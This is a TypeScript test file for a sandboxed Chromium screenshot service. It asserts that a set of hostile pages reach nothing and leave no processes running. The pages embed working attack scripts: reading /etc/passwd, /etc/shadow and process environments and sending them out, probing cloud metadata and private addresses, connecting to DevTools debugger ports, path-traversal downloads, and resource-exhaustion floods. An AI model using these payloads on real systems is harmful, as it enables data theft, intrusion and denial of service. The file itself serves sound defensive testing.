import assert from 'node:assert/strict'
import { once } from 'node:events'
import { chmod, mkdir } from 'node:fs/promises'
import { createServer, type ServerResponse } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { after, before, describe, test } from 'node:test'
import { openSandbox } from '#adapters/sandbox-bwrap/open-sandbox.ts'
import type { Sandbox } from '#core/ports/sandbox.ts'
import type { Screenshots } from '#core/ports/screenshots.ts'
import { openScreenshots } from '#src/process/compose/content/screenshots.ts'
import { onlyShort, tried } from '#test/support/attacked.ts'
import { withoutChromium } from '#test/support/browser/chromium.ts'
import { processesWith, rootMissing, scratch } from '#test/support/sandbox/sandbox.ts'
import { silentLog } from '#test/support/silent-log.ts'

const page = (script: string) =>
  `<!doctype html><title>Hostile</title><h1>Hello</h1><script>${script}</script>`

/** Pages that want something of whoever looks at them. `URL` is a server of this machine. */
const PAGES: Readonly<Record<string, string | ((res: ServerResponse) => void)>> = {
  'reads files':
    page(`for (const file of ['/etc/passwd', '/etc/shadow', '/proc/self/environ', '/opt/screenshots/main.cjs'])
    fetch('file://' + file).then((r) => r.text()).then((t) => fetch('/got?' + t.slice(0, 20)), () => {})
    location = 'file:///etc/passwd'`),
  'goes to private addresses': page(
    `for (const to of ['URL', 'http://169.254.169.254', 'http://10.0.0.1', 'http://[::1]:22', 'http://0.0.0.0']) { new Image().src = to; fetch(to, { mode: 'no-cors' }).then(() => fetch('/got?' + to), () => {}) }
    setTimeout(() => { location = 'URL' }, 100)`,
  ),
  'speaks to its debugger': page(
    `for (let port = 9222; port < 9230; port++) fetch('http://127.0.0.1:' + port + '/json', { mode: 'no-cors' }).then(() => fetch('/got?debugger'), () => {})
    new WebSocket('ws://127.0.0.1:9222/devtools/browser')`,
  ),
  'opens windows': page(`for (let i = 0; i < 200; i++) open('/?' + i, '_blank', 'width=10')`),
  'asks without end': page(
    `onbeforeunload = () => 'stay'; for (let i = 0; i < 1000; i++) { alert(i); confirm(i); prompt(i) }`,
  ),
  downloads: page(
    `for (let i = 0; i < 50; i++) { const a = document.createElement('a'); a.href = '/file?' + i; a.download = '../../../tmp/x' + i; a.click() }`,
  ),
  'draws a huge canvas': page(
    `for (let i = 0; i < 64; i++) { const c = document.createElement('canvas'); c.width = c.height = 16384; document.body.append(c); const x = c.getContext('2d'); x.fillRect(0, 0, 16384, 16384) }`,
  ),
  'eats memory': page(`const all = []; for (;;) all.push(new Uint8Array(1e7).fill(1))`),
  'runs for ever': page(`for (;;);`),
  'redirects for ever': page(`location.replace('/?' + Math.random())`),
  'starts workers': page(
    `for (let i = 0; i < 300; i++) new Worker(URL.createObjectURL(new Blob(['for(;;);'])))`,
  ),
  'never ends': (res) => {
    res.writeHead(200, { 'content-type': 'text/html' })
    const timer = setInterval(() => res.write(`<p>${'x'.repeat(1000)}`), 20)
    res.on('close', () => clearInterval(timer))
  },
  'is endless': (res) => {
    res.writeHead(200, { 'content-type': 'text/html' })
    const more = () => {
      while (!res.destroyed && res.write('<div>'.repeat(10_000)));
    }
    res.on('drain', more)
    more()
  },
}

describe('screenshots of hostile pages', { skip: withoutChromium || rootMissing || onlyShort }, () => {
  let sandbox: Sandbox
  let screenshots: Screenshots
  before(async () => {
    sandbox = await openSandbox({ mode: 'required', log: silentLog })
    screenshots = (await openScreenshots({ chromium: undefined }, sandbox, silentLog, 12_000)) as Screenshots
  })
  after(() => sandbox?.close())

  test('none of them reaches anything, leaves anything, or keeps the next one from being taken', async (t) => {
    const reached: string[] = []
    const trap = createServer((req, res) => {
      reached.push(String(req.url))
      res.end('secret')
    }).listen(0, '127.0.0.1')
    await once(trap, 'listening')
    t.after(() => trap.close())
    const url = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`
    const folder = join(await scratch(t), 'site')
    await mkdir(folder)
    await chmod(folder, 0o755)
    const socket = join(folder, 'site.sock')
    let shown: (typeof PAGES)[string] = ''
    const site = createServer((req, res) => {
      if (req.url?.startsWith('/got')) reached.push(req.url)
      if (typeof shown === 'function') return shown(res)
      res.writeHead(200, { 'content-type': 'text/html' }).end(shown.replaceAll('URL', url))
    }).listen(socket)
    await once(site, 'listening')
    await chmod(socket, 0o666)
    t.after(() => {
      site.closeAllConnections()
      site.close()
    })
    const host = 'hostile-pages.example'
    for (const [what, content] of Object.entries(PAGES)) {
      shown = content
      const picture = await screenshots.photograph({ host, socket }, new AbortController().signal)
      assert.deepEqual(reached, [], what)
      assert.ok(picture === undefined || picture.bytes.length <= 200_000, what)
      assert.deepEqual(processesWith(`http://${host}`), [], `${what}: something is left running`)
    }
    tried(t, Object.keys(PAGES).length)
    shown = '<!doctype html><h1>A good page</h1>'
    // A machine that is busy may need another try.
    let picture: Awaited<ReturnType<Screenshots['photograph']>>
    for (let attempt = 0; attempt < 5 && !picture; attempt++)
      picture = await screenshots.photograph({ host, socket }, new AbortController().signal)
    assert.equal(picture?.type, 'image/webp')
  })
})
